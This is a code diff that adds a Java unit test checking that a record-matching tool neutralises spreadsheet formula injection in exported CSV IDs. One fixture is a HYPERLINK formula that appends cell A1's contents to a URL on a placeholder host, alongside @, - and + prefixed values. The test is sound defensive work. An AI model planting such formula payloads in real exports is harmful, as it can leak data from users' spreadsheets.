@@ -105,6 +105,28 @@ class BulkMatchCommandTests {
 	}
 
 	@Test
+	void anIdThatASpreadsheetWouldRunAsAFormulaIsWrittenAsText() throws Exception {
+		// a merged legacy file can hold anything in its ids; the pairs and clusters files are opened in spreadsheets
+		Path input = file("records.csv", HEADER
+				+ "\"=HYPERLINK(\"\"http://example.org/?\"\"&A1,\"\"open\"\")\",Fatma,Hüseyni,,1994-03-12,,F,AFG\n"
+				+ "@SUM(1+1),Fatemeh,Hosseini,,1994-03-12,,F,AFG\n"
+				+ "-7,Fatima,Huseyni,,1994-03-12,,F,AFG\n"
+				+ "A-7,Fatma,Hüseyni,,1994-03-12,,F,AFG\n"
+				+ "+905551112233,Fatma,Hüseyni,,1994-03-12,,F,AFG\n");
+		assertThat(run("--input", input.toString(), "--output", dir.resolve("pairs.csv").toString(), "--clusters",
+				dir.resolve("clusters.csv").toString())).isZero();
+		List<String> ids = new java.util.ArrayList<>();
+		for (CSVRecord pair : pairs(dir.resolve("pairs.csv"))) {
+			ids.add(pair.get("left_id"));
+			ids.add(pair.get("right_id"));
+		}
+		assertThat(ids).contains("'=HYPERLINK(\"http://example.org/?\"&A1,\"open\")", "'@SUM(1+1)", "'-7", "A-7",
+				"'+905551112233")
+			.noneMatch(id -> id.startsWith("=") || id.startsWith("@") || id.startsWith("-") || id.startsWith("+"));
+		assertThat(Files.readString(dir.resolve("clusters.csv"))).contains("'@SUM(1+1),").doesNotContain("\n@", "\n=");
+	}
+
+	@Test
 	void recordsWithASlipInEveryNameAreStillCompared() throws Exception {
 		// no name keeps its first three consonants in both records, so they share none of the index's keys
 		Path input = file("records.csv", HEADER
